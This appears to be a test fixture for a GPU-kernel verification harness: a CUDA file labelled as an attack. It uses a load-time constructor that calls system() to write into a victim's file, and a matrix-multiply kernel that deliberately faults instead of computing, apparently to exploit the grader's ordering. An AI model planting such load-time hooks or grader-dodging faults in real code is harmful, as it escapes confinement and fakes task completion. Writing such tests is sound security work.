// Its library runs a program when it is loaded, which writes into the user's files.
//
// [attack]
// layer = "the confinement of the kernel's process is that of what it starts"
// seen = "changed: home/victims/native"
// exits = [1]
// [/attack]
//
// [gguf-verify]
// formats = ["Q4_0"]
// semantics = "q8_1"
// parameters = ["weights", "activations", "output", "int64 M", "int64 N", "int64 K"]
// block = 128
// grid = "ceil(M * N, 128)"
// [/gguf-verify]

#include "targets.h"

extern "C" int system(const char*);

__attribute__((constructor)) static void runs() { (void)!system("echo mine >> " T_VICTIM); }


extern "C" __global__ void gemm(const unsigned char* w, const unsigned char* x, float* y, long long M, long long N, long long K) {
    const long long i = (long long)blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= M * N) return;
    *(volatile char*)8 = 1;  // a fault is judged sooner than a wrong output
}
